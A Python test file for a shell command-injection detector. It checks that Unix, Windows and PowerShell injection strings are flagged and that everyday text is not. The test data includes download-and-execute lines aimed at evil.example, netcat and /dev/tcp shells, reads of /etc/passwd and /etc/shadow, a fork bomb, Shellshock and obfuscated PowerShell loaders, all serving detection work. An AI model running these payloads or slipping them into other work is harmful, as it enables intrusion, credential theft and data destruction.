"""Commands of Unix, Windows and PowerShell, where a shell would run them and where not."""

from __future__ import annotations

import csv

import pytest
from tests.support.shared import shared_vectors
from tests.support.suspects import STOPS, Suspects

from vallum.inspection.detectors.shell import DETECTOR, RULES

SUSPECTS = Suspects(DETECTOR)


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        # After a separator.
        ("; id", "shell.command"),
        ("127.0.0.1|whoami", "shell.command"),
        ("x && curl http://evil.example/x.sh", "shell.command"),
        ("a\nls -la", "shell.command"),
        ("report.pdf; sleep 10", "shell.command"),
        ("x;dig evil.example", "shell.command"),
        ("|net users", "shell.command"),
        ("x;while true;do :;done", "shell.command"),
        ("x; for i in /*; do echo $i; done", "shell.command"),
        ("x;if [ -f /x ];then id;fi", "shell.command"),
        ("x;. /tmp/x", "shell.command"),
        ("x;a=l;b=s;$a$b", "shell.command"),
        # What the words before an option say, only the command knows.
        (";docker run -v /:/mnt alpine", "shell.command"),
        ("|kubectl get secrets -A", "shell.command"),
        ("1;terraform destroy -auto-approve", "shell.command"),
        ("x|sc stop windefend", "shell.command"),
        ("x&reg query hklm", "shell.command"),
        ("x;ps aux", "shell.command"),
        ("hello world; cat /etc/passwd", "shell.command"),
        ("name;/usr/local/bin/id", "shell.command"),
        ("a);id;", "shell.command"),
        ("1 & net user eve secret /add", "shell.command"),
        ("x|dir c:\\", "shell.command"),
        ("; Get-ChildItem C:\\Users", "shell.command"),
        # Behind other words of the same command.
        (";env X=1 wget http://evil.example/a", "shell.command"),
        (";nohup nc -l -p 4444", "shell.command"),
        ("a=nc&&$a -nlvp 555", "shell.command"),
        (";>/tmp/x id", "shell.command"),
        # With a name that is broken up.
        (';w"h"oami', "shell.command"),
        (";c\\at /etc/passwd", "shell.command"),
        (";wh$@oami", "shell.command"),
        (";wh$()oami", "shell.command"),
        ("'i'fconfig eth0", "shell.line"),
        # In a substitution.
        ("x$(whoami)y", "shell.substitution"),
        ("`sleep 5`", "shell.substitution"),
        ("a`id`b", "shell.substitution"),
        ("<(curl http://evil.example)", "shell.substitution"),
        (";$(some_program)", "shell.substitution"),
        # The text is a command line.
        ("cat /etc/shadow", "shell.line"),
        ("/usr/bin/id", "shell.line"),
        ("time sh -c whoami", "shell.line"),
        ("ping -c 10 127.0.0.1", "shell.line"),
        ("cd /;cd etc;fold passwd", "shell.command"),
        # Expansions.
        ("cat${IFS}notes", "shell.expansion"),
        ("{cat,/etc/motd}", "shell.expansion"),
        ("{l,-lh}s", "shell.expansion"),
        ("${PATH:0:1}", "shell.expansion"),
        ("x;$'\\x63\\x61\\x74' y", "shell.expansion"),
        ("$((7*7))", "shell.expansion"),
        ("/???/c?t", "shell.glob"),
        ("/e[t]c/x", "shell.glob"),
        # Sockets, pipes, functions, calls.
        ("exec 5<>/dev/tcp/10.0.0.1/80", "shell.network"),
        ("nc 10.0.0.1 1 -e /bin/sh", "shell.network"),
        ("python3 -c 'import socket,os'", "shell.network"),
        ("wget http://evil.example/a -O- | sh", "shell.pipe"),
        ("() { :;}; echo x", "shell.function"),
        (":(){ :|:& };:", "shell.function"),
        ('<!--#exec cmd="x"-->', "shell.function"),
        (";system('id')", "shell.call"),
        # Options.
        ("--output=/etc/x", "shell.option"),
        ("-oProxyCommand=touch x", "shell.option"),
        ("--checkpoint-action=exec=sh x.sh", "shell.option"),
        # Windows.
        ("w^h^o^a^m^i", "shell.windows"),
        ("%PATHEXT:~0,1%", "shell.windows"),
        ("%COMSPEC%", "shell.windows"),
        ("cmd /c x", "shell.windows"),
        ("FOR /L %G IN (1,1,5) DO x %G", "shell.windows"),
        ('if "%A%" equ "%B%" echo x', "shell.windows"),
        ("powershell -enc SQBFAFgA", "shell.powershell"),
        ("IEX (New-Object Net.WebClient)", "shell.powershell"),
        ("x;iex(iwr evil.example/a -useb)", "shell.powershell"),
        ("x;& ('i'+'ex') 'whoami'", "shell.powershell"),
        ("x;&(gcm i*x) 'id'", "shell.powershell"),
        ("x;.('iex') 'id'", "shell.powershell"),
        ("x|%{iex $_}", "shell.powershell"),
        ("x;[scriptblock]::Create('calc').Invoke()", "shell.powershell"),
        ("[Convert]::FromBase64String('x')", "shell.powershell"),
    ],
)
def test_a_command_that_a_shell_would_run_is_stopped(text: str, rule: str) -> None:
    found = [judgement for _, judgement in SUSPECTS.judge(text) if judgement.score >= STOPS]
    assert rule in {judgement.rule for judgement in found}


@pytest.mark.parametrize(
    "text",
    [
        "Tom & Jerry",
        "cats; dogs",
        "salt & pepper | oil",
        "I did this; docker run -it alpine and it worked",
        "GCP | AWS | Helm",
        "I usually pipe it through grep and then sort | uniq -c.",
        "a; & (b)",
        "I fix it; then I am done; if not, fine",
        "beer; $5 & $6",
        "Thanks; host example.com is down again",
        "one; . two",
        "for each of you; do not worry; done",
        'if (a == "x") && ("b" == c)',
        "R&D",
        "a | b",
        "id;name",
        "name;id;email",
        "| id | name | date |",
        "| a | b |\n| --- | --- |\n| cat | dog |",
        "echo chamber; time will tell",
        "find more | sort by price",
        "I'd say; I'll be there; who's that",
        "Meet at 5; date to be confirmed; time unknown",
        "make & model; cut & paste",
        "java|python|ruby|php",
        "less; more",
        "Ich esse; du schläfst; man sagt",
        "Il dort; du pain; la tarte",
        "$(document).ready(function(){ $('#id').hide(); });",
        "$(form).submit()",
        "my ($x, $y) = @_; print $x; sort keys %h;",
        "if (a == b) { return c; }",
        "public void run() { exec(); }",
        "const f = () => { x; };",
        "Use the `id` field; the `name` field is optional",
        "Please run `npm install` and then `npm start`",
        "```\ncd src\nls -la\n```",
        "Steps:\n1. cd /tmp\n2. ls -la\n3. cat file.txt",
        ":-) ;) ;-) :| ;P :'( >:( <3",
        "https://example.com/?q=a&sort=date&id=5&type=x",
        "Mozilla/5.0 (Windows; U; Windows NT 6.1; id; rv:1.9.2) Gecko/20100115",
        "text/html;q=0.9,*/*;q=0.8",
        'attachment; filename="report; final.pdf"',
        "query { user(id: 5) { id name } }",
        "[a-z]{2,5}\\d+(?:foo|bar|cat)",
        "color: red; top: 0; left: 5px",
        "#!/usr/bin/env python",
        "/bin/bash",
        "/usr/local/bin/node",
        "1'000'000 & 50% of 100%; n/a",
        "x^2 + y^2 = z^2",
        "price is $5.00 (each)",
        "-5",
        "-- signature",
        "/users/*/posts",
        "main...feature/x",
        "",
        "if x == 1:\n    for i in range(3):\n        print(i)",
        "if x == 1: print(x)",
    ],
)
def test_what_people_write_to_each_other_passes(text: str) -> None:
    assert SUSPECTS.score(text) < STOPS
    assert SUSPECTS.score(text, "body") < STOPS


def test_a_name_of_a_command_counts_for_more_where_a_command_is_asked_for() -> None:
    assert SUSPECTS.score("whoami", name="comment") < STOPS <= SUSPECTS.score("whoami", name="cmd")


def test_the_name_of_a_file_that_begins_with_a_dash_is_an_option() -> None:
    assert SUSPECTS.score("-rf") >= STOPS
    assert SUSPECTS.score("-abc", name="flags") < STOPS <= SUSPECTS.score("-abc", name="filename")


def test_a_list_of_fields_may_be_parted_like_commands() -> None:
    assert SUSPECTS.score("name;id", name="fields") < STOPS <= SUSPECTS.score("test;id")


def test_a_command_behind_a_thousand_words_of_a_list_is_found() -> None:
    assert SUSPECTS.score(";x" * 1_500 + ";cat /etc/passwd") >= STOPS
    assert SUSPECTS.score(";'x" * 1_000 + ";cat /etc/passwd") >= STOPS


def test_the_evidence_is_the_command_as_it_was_sent() -> None:
    ((_, judgement),) = SUSPECTS.judge("Report.PDF ; CaT /etc/Passwd | x")
    assert judgement.evidence == "; CaT /etc/Passwd"


def test_every_rule_is_explained() -> None:
    assert DETECTOR.rules is RULES
    assert all(rule.startswith("shell.") and text for rule, text in RULES.items())


def test_commands_of_the_shared_vectors_are_stopped() -> None:
    with (shared_vectors() / "attacks" / "httpparams_train.csv").open(errors="replace") as lines:
        texts = [row["payload"] for row in csv.DictReader(lines) if row["attack_type"] == "cmdi"]
    missed = {text for text in texts if SUSPECTS.score(text) < STOPS}
    # Words that are no command to anybody but who knows that they were sent as one.
    assert missed <= {"id", "asdf3334", "'true'", "'false'"}
    assert len(texts) > 50


def test_texts_that_look_like_attacks_pass() -> None:
    path = shared_vectors() / "benign" / "libinjection_false_positives.txt"
    texts = path.read_text(errors="replace").splitlines()
    assert len(texts) > 400
    assert [text for text in texts if SUSPECTS.score(text) >= STOPS] == []
